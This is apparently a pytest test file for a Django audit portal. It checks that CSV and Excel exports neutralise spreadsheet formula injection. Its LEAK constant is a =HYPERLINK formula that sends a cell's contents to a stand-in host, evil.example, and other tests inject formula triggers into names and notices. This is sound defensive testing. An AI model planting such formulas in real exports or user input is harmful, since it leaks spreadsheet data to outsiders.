"""Every CSV and Excel export writes cells as text: nothing a person typed runs as a formula."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from audits.models import BestPracticeNotice
from qaportal.exports import csv_bytes, safe_cell, xlsx_bytes

LEAK = '=HYPERLINK("http://evil.example/leak?"&C2,"Click for details")'


@pytest.mark.parametrize("value", [LEAK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"])
def test_text_a_spreadsheet_would_run_is_made_inert(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Good practice", "", 5, None, "a=b"])
def test_everything_else_is_left_as_it_is(value):
    assert safe_cell(value) == value


def test_xlsx_cells_are_text_never_formulas():
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(["Name", LEAK], [[LEAK, "@SUM(A1)"], [3, None]])))
    sheet = book.active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    assert sheet["A2"].value == "'" + LEAK and sheet["A3"].value == 3


def test_csv_cells_start_with_an_apostrophe_when_they_would_run():
    rows = list(csv.reader(io.StringIO(csv_bytes(["h"], [[LEAK]]).decode("utf-8-sig"))))
    assert rows[1] == ["'" + LEAK]


def test_the_best_practice_log_export_neutralises_what_the_reviewer_typed(client, world):
    review = world.allocate()
    BestPracticeNotice.objects.create(council=world.council, review=review, text=LEAK, raised_by=world.service_manager)
    client.force_login(world.quality)
    url = reverse("feedback:best_practice", kwargs={"council_slug": "derbyshire"})
    book = openpyxl.load_workbook(io.BytesIO(client.get(url, {"format": "xlsx"}).content))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert "'" + LEAK in [c.value for c in cells]
    assert all(c.data_type != "f" for c in cells)
    text = client.get(url, {"format": "csv"}).content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text


def test_staff_names_in_the_compliance_export_are_text(client, world):
    from audits.programme.loading import load_programme
    from audits.programme.services import run_month
    from qaportal.calendar import month_start

    world.service_manager.first_name, world.service_manager.last_name = "=HYPERLINK(", '"x")'
    world.service_manager.save()
    load_programme(world.council)
    from django.utils import timezone

    run_month(council=world.council, period=month_start(timezone.localdate()))
    client.force_login(world.quality)
    url = reverse("reporting:compliance", kwargs={"council_slug": "derbyshire"})
    book = openpyxl.load_workbook(io.BytesIO(client.get(url, {"format": "xlsx", "by": "person"}).content))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
